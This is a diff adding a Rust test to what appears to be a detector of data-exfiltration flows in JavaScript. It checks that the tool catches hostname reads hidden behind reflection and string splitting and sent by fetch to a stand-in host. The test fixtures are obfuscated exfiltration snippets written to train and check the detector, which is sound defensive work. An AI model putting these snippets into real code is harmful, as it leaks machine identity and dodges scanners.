@@ -2084,3 +2084,22 @@ fn data_delivered_to_callbacks_and_stream_events_is_followed() {
     ));
     assert!(own.flows.is_empty(), "{:#?}", own.flows);
 }
+
+/// Members reached through reflection are the members: `Reflect.get(os, "hostname")()`,
+/// `Object.getOwnPropertyDescriptor(os, "userInfo").value()`, computed keys.
+#[test]
+fn members_reached_through_reflection_are_resolved() {
+    for read in [
+        "Reflect.get(os, 'host' + 'name')()",
+        "Object.getOwnPropertyDescriptor(os, 'hostname').value()",
+        "globalThis['require']('os').hostname()",
+    ] {
+        let f = run(&format!(
+            "const os = require('os');\nfetch('https://a.example.top/?h=' + {read});"
+        ));
+        assert_eq!(f.flows.len(), 1, "{read}: {:#?}", f.flows);
+        assert!(f.flows[0].kinds.contains(DataKind::Hostname), "{read}");
+    }
+    let f = run("const os = require('os');\nfetch('https://a.example.top/?p=' + Reflect.get(os, 'platform')());");
+    assert!(f.flows.is_empty(), "{:#?}", f.flows);
+}
